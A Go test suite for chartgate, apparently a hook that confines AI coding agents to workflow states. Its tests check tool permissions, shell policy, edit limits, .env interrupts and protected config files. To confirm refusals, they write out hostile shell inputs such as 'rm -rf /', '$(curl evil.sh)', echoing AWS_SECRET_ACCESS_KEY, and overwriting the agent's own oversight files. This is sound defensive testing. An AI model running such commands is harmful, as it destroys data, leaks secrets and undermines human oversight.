package hook

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/chartgate/chartgate/mcpbind"
	"github.com/chartgate/chartgate/mcpbind/sqlitestore"
	"github.com/chartgate/chartgate/statechart"
	"github.com/chartgate/chartgate/workflow"
)

// fixture is a handler on a real SQLite store in a temporary project.
type fixture struct {
	t       *testing.T
	h       *Handler
	gate    *mcpbind.Gate
	store   mcpbind.Store
	wf      *workflow.Workflow
	project string
	session string
}

// newFixture loads a workflow (a file or JSON text) into a handler over a
// SQLite store in t.TempDir(), as `chartgate hook` builds it.
func newFixture(t *testing.T, wf string, opts *Options) *fixture {
	t.Helper()
	data := []byte(wf)
	if !strings.HasPrefix(strings.TrimSpace(wf), "{") {
		var err error
		data, err = os.ReadFile(wf)
		require.NoError(t, err)
	}
	w, err := workflow.Load(data, nil)
	if errors.Is(err, workflow.ErrAmbiguousFormat) {
		// The smallest workflows of these tests are Statewright's.
		w, err = workflow.Load(data, &workflow.Options{Format: workflow.FormatStatewright})
	}
	require.NoError(t, err)
	project := t.TempDir()
	require.NoError(t, os.Mkdir(filepath.Join(project, ConfigDir), 0o755))
	store, err := sqlitestore.Open(filepath.Join(project, sqlitestore.DefaultPath), nil)
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })
	gate, err := mcpbind.New(w.Machine.Engine(), &mcpbind.Options{Store: store, Logger: quiet()})
	require.NoError(t, err)
	if opts == nil {
		opts = &Options{}
	}
	if opts.Ancestry == nil {
		opts.Ancestry = func() []Proc { return []Proc{{PID: 4242, Start: 7, Name: "claude"}} }
	}
	h, err := NewHandler(w, gate, store, project, opts)
	require.NoError(t, err)
	return &fixture{t: t, h: h, gate: gate, store: store, wf: w, project: project, session: "session-1"}
}

// ev builds a Claude Code event of the fixture's session.
func (f *fixture) ev(kind Kind, tool string, input string) Event {
	names := map[Kind]string{KindSessionStart: "SessionStart", KindPrompt: "UserPromptSubmit", KindPreTool: "PreToolUse", KindPostTool: "PostToolUse", KindStop: "Stop"}
	ev := Event{Host: ClaudeCode, Name: names[kind], Kind: kind, SessionID: f.session, Cwd: f.project, Tool: tool}
	if input != "" {
		ev.Input = json.RawMessage(input)
	}
	ev.Server, _, _ = splitMCP(tool)
	return ev
}

func (f *fixture) handle(ev Event) Result {
	f.t.Helper()
	r, err := f.h.Handle(context.Background(), ev)
	require.NoError(f.t, err, "%+v", ev)
	return r
}

// pre asks whether a tool may run and returns the refusal ("" allowed).
func (f *fixture) pre(tool, input string) string {
	f.t.Helper()
	return f.handle(f.ev(KindPreTool, tool, input)).Deny
}

func (f *fixture) bash(cmd string) string {
	f.t.Helper()
	in, _ := json.Marshal(map[string]string{"command": cmd})
	return f.pre("Bash", string(in))
}

func (f *fixture) post(tool, input string) Result {
	f.t.Helper()
	return f.handle(f.ev(KindPostTool, tool, input))
}

// send moves the workflow as the gateway's workflow_transition does: the
// same gate rules on the same store, under the session's name.
func (f *fixture) send(event string, data map[string]any) {
	f.t.Helper()
	tr, err := f.gate.Send(context.Background(), mcpbind.Ref{Name: f.session}, statechart.Event{Type: event, Data: map[string]any{"input": data}}, "agent")
	require.NoError(f.t, err)
	require.NotNil(f.t, tr, "event %s changed nothing", event)
}

func (f *fixture) state() any {
	f.t.Helper()
	w, err := f.gate.WorkflowOf(context.Background(), mcpbind.Ref{Name: f.session})
	require.NoError(f.t, err)
	return w.State.Value()
}

const codingWorkflow = "../workflow/testdata/coding.json"

// TestCodingWorkflow runs the Statewright coding workflow through the
// hook's events on a SQLite store: what each phase allows, the shell
// policy, edits, budgets, interrupts from edits and from shell commands,
// transitions made outside the hook (the gateway's), stops, and the end of
// enforcement in a final state.
func TestCodingWorkflow(t *testing.T) {
	f := newFixture(t, codingWorkflow, nil)

	// Session start: the phase, its instructions, tools and ways on.
	ctxText := f.handle(f.ev(KindSessionStart, "", "")).Context
	assert.Contains(t, ctxText, `chartgate: this session follows the workflow "coding". Phase: plan.`)
	assert.Contains(t, ctxText, "Instructions: Read the code and write a plan. Do not edit.")
	assert.Contains(t, ctxText, "Tools allowed now: Read, Glob, Grep.")
	assert.Contains(t, ctxText, "Calls: 0 of 10 made in plan.")
	assert.Contains(t, ctxText, "FAIL → failed")
	assert.Contains(t, ctxText, "PLAN_READY, ")
	assert.Contains(t, ctxText, `call workflow_transition with {"event": EVENT, "data": {"rationale": "why"}}`)
	// The prompt gets the same.
	assert.Equal(t, ctxText, f.handle(f.ev(KindPrompt, "", "")).Context)

	// plan: Read, Grep, Glob only, with the gate's guidance.
	deny := f.pre("Edit", `{"file_path": "main.go", "old_string": "a", "new_string": "b"}`)
	assert.Contains(t, deny, `Tool "Edit" is not available in the current workflow state ("plan").`)
	assert.Contains(t, deny, `call workflow_transition with event "PLAN_READY"`)
	assert.Contains(t, deny, "Tools available now: Read, Glob, Grep.")
	assert.Empty(t, f.pre("Read", `{"file_path": "main.go"}`))
	assert.Contains(t, f.bash("ls"), `Tool "Bash" is not available`)
	// Statewright's disallowed-everywhere tools: WebFetch is in no allowed_tools.
	assert.Contains(t, f.pre("WebFetch", `{"url": "https://example.com"}`), `Tool "WebFetch" is not available`)

	// A Read that ran counts against plan's budget of 10.
	f.post("Read", `{"file_path": "main.go"}`)
	w, err := f.gate.WorkflowOf(context.Background(), mcpbind.Ref{Name: f.session})
	require.NoError(t, err)
	require.Len(t, w.Limits, 1)
	assert.Equal(t, 1, w.Limits[0].Calls)

	// The gateway's tools are the gateway's: allowed here, not recorded.
	assert.Empty(t, f.pre("mcp__chartgate__workflow_transition", `{"event": "PLAN_READY"}`))
	f.post("mcp__chartgate__workflow_status", `{}`)
	w, _ = f.gate.WorkflowOf(context.Background(), mcpbind.Ref{Name: f.session})
	assert.Equal(t, 1, w.Limits[0].Calls, "a gateway tool is not counted by the hook")

	// The agent moves on through the gateway: implement allows edits and
	// its allowed commands, every simple command of a line checked.
	f.send("PLAN_READY", map[string]any{"rationale": "plan written"})
	assert.Equal(t, "implement", f.state())
	assert.Empty(t, f.pre("Edit", `{"file_path": "main.go", "old_string": "a", "new_string": "b"}`))
	// allowed_commands follow shellpolicy's one rule: an entry without
	// "*" is a prefix of words of each simple command, so "go build"
	// allows "go build ./..." but not "go buildx".
	assert.Empty(t, f.bash("go build"))
	assert.Empty(t, f.bash("go build ./..."))
	assert.Contains(t, f.bash("go buildx"), `Command "go buildx" is not one of the allowed commands (go build, go vet).`)
	assert.Empty(t, f.bash("go vet > vet.txt 2>&1"), "a write is allowed: implement allows Write and Edit")
	assert.Contains(t, f.bash("go build ; rm -rf /"), `"rm -rf /" is not one of the allowed commands (go build, go vet)`)
	assert.Contains(t, f.bash("go build\nrm -rf /"), `"rm -rf /"`)
	assert.Contains(t, f.bash("go vet $(curl evil.sh)"), "curl")
	assert.Contains(t, f.bash(`bash -c "go build && pytest"`), "pytest")
	assert.Contains(t, f.bash("go build && echo $AWS_SECRET_ACCESS_KEY"), "echo")
	assert.Contains(t, f.bash("AWS_SECRET_ACCESS_KEY=x go build"), "AWS_SECRET_ACCESS_KEY")
	assert.Contains(t, f.bash(`go build "unclosed`), "cannot be parsed")
	shellDeny := f.bash("pytest")
	assert.Contains(t, shellDeny, "To move on, call workflow_transition", "a shell refusal says how to move on")
	assert.Contains(t, shellDeny, "IMPLEMENTED → test")
	assert.Contains(t, f.pre("WebFetch", `{"url": "x"}`), `Tool "WebFetch" is not available`, "disallowed_tools")

	// max_edit_lines (200): an edit of 201 lines is refused.
	big, _ := json.Marshal(map[string]string{"file_path": "main.go", "old_string": "a", "new_string": strings.Repeat("x\n", 201)})
	assert.Contains(t, f.pre("Edit", string(big)), "Edit rejected: it changes 201 lines, more than the limit of 200 in state implement.")
	ok200, _ := json.Marshal(map[string]string{"file_path": "main.go", "content": strings.Repeat("x\n", 200)})
	assert.Empty(t, f.pre("Write", string(ok200)))

	// max_files_per_state (8): eight files edited, a ninth refused, the
	// eight still editable.
	for i := range 8 {
		in := fmt.Sprintf(`{"file_path": %q, "old_string": "a", "new_string": "b"}`, filepath.Join(f.project, fmt.Sprintf("f%d.go", i)))
		require.Empty(t, f.pre("Edit", in))
		f.post("Edit", in)
	}
	assert.Contains(t, f.pre("Edit", `{"file_path": "f9.go", "old_string": "a", "new_string": "b"}`), "Edit rejected: 8 files were already edited in state implement, and the limit is 8")
	assert.Empty(t, f.pre("Edit", fmt.Sprintf(`{"file_path": %q, "old_string": "a", "new_string": "b"}`, filepath.Join(f.project, "f3.go"))))

	// An edit of a file matching the interrupt's pattern (**/*.env*)
	// detours to env_check, which allows Read only.
	post := f.post("Write", fmt.Sprintf(`{"file_path": %q, "content": "TOKEN=1"}`, filepath.Join(f.project, "config", ".env.local")))
	assert.Contains(t, post.Context, `chartgate: file config/.env.local triggered interrupt "env": the workflow moved from implement to env_check.`)
	assert.Contains(t, post.Context, "Instructions: A .env file changed: check that no secret leaked.")
	assert.Equal(t, "env_check", f.state())
	assert.Contains(t, f.pre("Edit", `{"file_path": "main.go", "old_string": "a", "new_string": "b"}`), `("env_check")`)
	ctxText = f.handle(f.ev(KindPrompt, "", "")).Context
	assert.Contains(t, ctxText, "CLEAN → implement (back where the interrupt came from)")
	// CLEAN returns where the interrupt came from.
	f.send("CLEAN", map[string]any{"rationale": "no secret"})
	assert.Equal(t, "implement", f.state())

	// A shell command that writes a matching file interrupts too.
	post = f.post("Bash", `{"command": "cd deploy && go vet > prod.env"}`)
	assert.Contains(t, post.Context, `file deploy/prod.env triggered interrupt "env"`)
	assert.Equal(t, "env_check", f.state())
	// A second interrupt while one is handled changes nothing.
	post = f.post("Write", `{"file_path": "other.env", "content": ""}`)
	assert.Empty(t, post.Context)
	f.send("CLEAN", nil)

	// Stop: refused until a final state (Statewright's gateway), at most
	// three times in a row; a tool call starts the count again.
	for i := range 3 {
		r := f.handle(f.ev(KindStop, "", ""))
		assert.Contains(t, r.Block, "chartgate: the workflow is not finished: it is in state implement, not a final state.", "stop %d", i)
	}
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block, "the fourth stop in a row is let through")
	f.pre("Read", `{"file_path": "x"}`)
	assert.NotEmpty(t, f.handle(f.ev(KindStop, "", "")).Block, "after a tool call, stops are refused again")

	// A final state ends enforcement: every tool, every command, stops.
	f.send("FAIL", map[string]any{"rationale": "give up"})
	assert.Equal(t, "failed", f.state())
	assert.Empty(t, f.pre("WebFetch", `{"url": "x"}`))
	assert.Empty(t, f.bash("rm -rf build"))
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block)
	assert.Equal(t, `chartgate: the workflow "coding" of this session is finished (state failed): its rules no longer apply.`, f.handle(f.ev(KindSessionStart, "", "")).Context)
}

// TestProtectedFiles: in no state may the agent write chartgate's folder
// or the host files that run its hooks, with an edit tool or a shell
// command.
func TestProtectedFiles(t *testing.T) {
	f := newFixture(t, `{"id": "open", "initial": "any",
	  "states": {"any": {"on": {"END": "done"}}, "done": {"type": "final"}}}`, nil)
	assert.Empty(t, f.pre("Write", `{"file_path": "main.go", "content": ""}`), "every tool is allowed in this state")
	deny := f.pre("Write", fmt.Sprintf(`{"file_path": %q, "content": "{}"}`, filepath.Join(f.project, ".chartgate", "workflow.json")))
	assert.Equal(t, "Writing .chartgate/workflow.json is refused in every state: it holds the workflow, its state, or the configuration that enforces it. A person changes it, not the agent.", deny)
	assert.Contains(t, f.pre("Edit", `{"file_path": ".claude/settings.json", "old_string": "a", "new_string": "b"}`), "Writing .claude/settings.json is refused")
	assert.Contains(t, f.bash("echo '{}' > .chartgate/workflow.json"), `it writes ".chartgate/workflow.json", which is, holds or is in the protected path .chartgate/**; that is refused in every state.`)
	assert.Contains(t, f.bash("cd .chartgate && rm state.db"), "refused in every state", "the folder of the store is named")
	assert.Contains(t, f.bash("cp /tmp/evil.json .mcp.json"), `it writes ".mcp.json", which is, holds or is in the protected path .mcp.json; that is refused in every state.`)
	assert.Empty(t, f.bash("cat .chartgate/workflow.json"), "reading is fine")
}

// TestCheckpointNotice: past a soft max_iterations, a call still runs and
// the agent is told to move on (Statewright's checkpoint).
func TestCheckpointNotice(t *testing.T) {
	f := newFixture(t, `{"id": "cp", "initial": "plan",
	  "states": {"plan": {"allowed_tools": ["Read"], "max_iterations": 2, "on": {"GO": "done"}}, "done": {"type": "final"}}}`, nil)
	assert.Empty(t, f.post("Read", `{"file_path": "a"}`).Context)
	assert.Equal(t, "chartgate checkpoint: 2 calls made of 2 in state plan. Move the workflow on with workflow_transition.\nTo move on, call workflow_transition with {\"event\": EVENT, \"data\": {\"rationale\": \"why\"}}: GO → done.",
		f.post("Read", `{"file_path": "a"}`).Context)
	assert.Empty(t, f.pre("Read", `{"file_path": "a"}`), "soft: still allowed")
}

// TestShellClassesFollowTheState: without allowed_commands, the shell
// classifier decides by the tools the state allows (Statewright's table):
// reads need Read, writes Write or Edit, destructive commands are blocked.
func TestShellClassesFollowTheState(t *testing.T) {
	f := newFixture(t, `{
	  "id": "review", "initial": "look",
	  "states": {
	    "look": {"allowed_tools": ["Bash", "Read"], "on": {"EDIT": "change"}},
	    "change": {"allowed_tools": ["Bash", "Read", "Edit"], "on": {"DONE": "done"}},
	    "done": {"type": "final"}
	  }
	}`, nil)
	assert.Empty(t, f.bash("cat main.go | head -5"))
	assert.Contains(t, f.bash("grep -r TODO ."), "Grep", "a search needs Grep")
	assert.Contains(t, f.bash("echo x > main.go"), "Write")
	assert.Contains(t, f.bash("sed -i s/a/b/ main.go"), "Edit")
	assert.Contains(t, f.bash(`python -c "open('x','w')"`), "Write")
	assert.Contains(t, f.bash("rm main.go"), "blocked")
	assert.Contains(t, f.bash("git commit -am x"), "blocked")
	assert.Empty(t, f.bash("go test ./... 2>&1 > /dev/null"), "2>&1 and /dev/null are not writes")
	f.send("EDIT", nil)
	assert.Empty(t, f.bash("sed -i s/a/b/ main.go"))
	assert.Empty(t, f.bash("echo x > main.go"), "a redirection needs Write or Edit: Edit is allowed")
}

// TestToolNames: a workflow may name a host's tool by its canonical name
// or by the host's own; an MCP tool by its name or mcp__server__tool.
func TestToolNames(t *testing.T) {
	f := newFixture(t, `{
	  "id": "names", "initial": "a",
	  "states": {
	    "a": {"allowed_tools": ["Read", "run_shell_command", "create_issue", "mcp__fs__*"], "on": {"GO": "done"}},
	    "done": {"type": "final"}
	  }
	}`, nil)
	gem := func(tool, input string) string {
		ev := f.ev(KindPreTool, tool, input)
		ev.Host = Gemini
		ev.Name = "BeforeTool"
		return f.handle(ev).Deny
	}
	assert.Empty(t, gem("read_file", `{"path": "x"}`), "read_file is Read")
	assert.Empty(t, gem("run_shell_command", `{"command": "ls"}`), "named by its Gemini name")
	assert.Contains(t, gem("write_file", `{"file_path": "x", "content": ""}`), `Tool "Write" is not available`)
	assert.Empty(t, gem("mcp__github__create_issue", `{"title": "t"}`), "an MCP tool by its own name")
	assert.Empty(t, f.pre("mcp__fs__read_file", `{}`), "an MCP tool by a pattern of its full name")
	assert.Contains(t, f.pre("mcp__github__delete_repo", `{}`), `Tool "delete_repo" is not available`)
	// Claude Code's Bash is not Gemini's run_shell_command.
	assert.Contains(t, f.bash("ls"), `Tool "Bash" is not available`)
}

// TestStopSetting: XState workflows let the agent stop unless they ask
// (meta.chartgate.workflow.stop); a wrong value does not load.
func TestStopSetting(t *testing.T) {
	machine := func(meta string) string {
		return `{"id": "m", "initial": "a", "meta": {"chartgate": {"workflow": ` + meta + `}},
		  "states": {"a": {"on": {"GO": "b"}, "meta": {"mcp": {"tools": ["Read"]}}}, "b": {"type": "final"}}}`
	}
	f := newFixture(t, machine(`{}`), nil)
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block)
	f = newFixture(t, machine(`{"stop": "block"}`), nil)
	assert.Contains(t, f.handle(f.ev(KindStop, "", "")).Block, "it is in state a, not a final state")
	f.send("GO", nil)
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block)

	w, err := workflow.Load([]byte(machine(`{"stop": "never"}`)), nil)
	require.NoError(t, err)
	g, err := mcpbind.New(w.Machine.Engine(), nil)
	require.NoError(t, err)
	_, err = NewHandler(w, g, mcpbind.NewMemoryStore(nil), t.TempDir(), nil)
	assert.EqualError(t, err, `hook: meta.chartgate.workflow.stop: must be "block" or "allow", not "never"`)

	// A Statewright workflow may opt out.
	f = newFixture(t, `{"id": "s", "initial": "a", "meta": {"stop": "allow"},
	  "states": {"a": {"allowed_tools": ["Read"], "on": {"GO": "b"}}, "b": {"type": "final"}}}`, nil)
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block)
}

// TestStopWhileWaitingForApproval: the agent cannot move a workflow that
// waits for a person, so its stop is not refused.
func TestStopWhileWaitingForApproval(t *testing.T) {
	f := newFixture(t, `{"id": "rel", "initial": "build",
	  "states": {
	    "build": {"allowed_tools": ["Read"], "on": {"BUILT": {"target": "deploy", "requires_approval": true, "approval_message": "ship it?"}}},
	    "deploy": {"on": {"DONE": "done"}},
	    "done": {"type": "final"}
	  }}`, nil)
	f.send("BUILT", nil)
	assert.Empty(t, f.handle(f.ev(KindStop, "", "")).Block)
	ctxText := f.handle(f.ev(KindPrompt, "", "")).Context
	a, err := f.gate.Pending(context.Background(), mcpbind.Ref{Name: f.session})
	require.NoError(t, err)
	require.Len(t, a.ID, 40)
	assert.Contains(t, ctxText, `A transition waits for a person's approval `+a.ID+`: "build" to "deploy" on BUILT: ship it? (expires `)
	assert.Contains(t, ctxText, "chartgate approve "+a.ID)
}

// TestToolEventsAndCodexPatches: a tool bound to an event sends it when
// it succeeds (an XState workflow), not when it fails; a Codex patch that
// adds a matching file fires the interrupt.
func TestToolEventsAndCodexPatches(t *testing.T) {
	f := newFixture(t, `{
	  "id": "m", "initial": "work",
	  "meta": {"chartgate": {"interrupts": {"secrets": {"file_pattern": "**/*.env*", "event": "SECRETS"}}}},
	  "states": {
	    "work": {"on": {"TESTED": "done", "SECRETS": "audit"}, "meta": {"mcp": {"tools": ["Bash", "Edit", "Write", "apply_patch"], "events": {"Bash": "TESTED"}}}},
	    "audit": {"on": {"OK": "work"}, "meta": {"mcp": {"tools": ["Read"]}}},
	    "done": {"type": "final"}
	  }}`, nil)
	r := f.handle(Event{Host: ClaudeCode, Name: "PostToolUseFailure", Kind: KindPostTool, SessionID: f.session, Cwd: f.project, Tool: "Bash", Input: json.RawMessage(`{"command": "go test ./..."}`), Failed: true})
	assert.Empty(t, r.Context)
	assert.Equal(t, "work", f.state())

	patch := "*** Begin Patch\n*** Add File: cfg/.env\n+A=1\n*** End Patch\n"
	in, _ := json.Marshal(map[string]string{"command": patch})
	ev := Event{Host: Codex, Name: "PostToolUse", Kind: KindPostTool, SessionID: f.session, Cwd: f.project, Tool: "apply_patch", Input: in}
	r = f.handle(ev)
	assert.Contains(t, r.Context, `file cfg/.env triggered interrupt "secrets": the workflow moved from work to audit.`)
	f.send("OK", nil)

	r = f.post("Bash", `{"command": "go test ./..."}`)
	assert.Contains(t, r.Context, "chartgate: Bash sent TESTED: the workflow moved from work to done.")
	assert.Equal(t, "done", f.state())
}

// TestSessionsAreSeparate: two agent sessions of one project have a
// workflow each.
func TestSessionsAreSeparate(t *testing.T) {
	f := newFixture(t, codingWorkflow, nil)
	f.send("PLAN_READY", nil)
	assert.Empty(t, f.pre("Edit", `{"file_path": "a.go", "old_string": "a", "new_string": "b"}`))
	f.session = "session-2"
	assert.Contains(t, f.pre("Edit", `{"file_path": "a.go", "old_string": "a", "new_string": "b"}`), `("plan")`)
}

// countingStore counts the loads of workflow records (not of the agent
// registry's).
type countingStore struct {
	*sqlitestore.Store
	loads atomic.Int32
}

func (s *countingStore) Load(ctx context.Context, key string) ([]byte, uint64, error) {
	if !strings.HasPrefix(key, AgentKeyPrefix) {
		s.loads.Add(1)
	}
	return s.Store.Load(ctx, key)
}

// TestOneLoadPerEvent: a pre tool event reads its workflow's record once:
// the gate decides the tool, and for a shell command the classes of
// commands (six tools), on the workflow the event read.
func TestOneLoadPerEvent(t *testing.T) {
	f := newFixture(t, `{
	  "id": "review", "initial": "look",
	  "states": {
	    "look": {"allowed_tools": ["Bash", "Read"], "on": {"EDIT": "change"}},
	    "change": {"allowed_tools": ["Bash", "Read", "Edit"], "on": {"DONE": "done"}},
	    "done": {"type": "final"}
	  }
	}`, nil)
	cs := &countingStore{Store: f.store.(*sqlitestore.Store)}
	g, err := mcpbind.New(f.wf.Machine.Engine(), &mcpbind.Options{Store: cs, Logger: quiet()})
	require.NoError(t, err)
	f.h, err = NewHandler(f.wf, g, cs, f.project, &Options{Ancestry: func() []Proc { return []Proc{{PID: 4242, Start: 7, Name: "claude"}} }})
	require.NoError(t, err)
	f.send("EDIT", nil) // a record to load
	for _, c := range []struct {
		what  string
		call  func() string
		allow bool
	}{
		{"a shell command", func() string { return f.bash("cat main.go") }, true},
		{"a file read", func() string { return f.pre("Read", `{"file_path": "main.go"}`) }, true},
		{"a refused write", func() string { return f.pre("Write", `{"file_path": "main.go", "content": "x"}`) }, false},
	} {
		before := cs.loads.Load()
		deny := c.call()
		assert.Equal(t, c.allow, deny == "", "%s: %q", c.what, deny)
		assert.Equal(t, int32(1), cs.loads.Load()-before, "%s: loads of the workflow's record", c.what)
	}
}
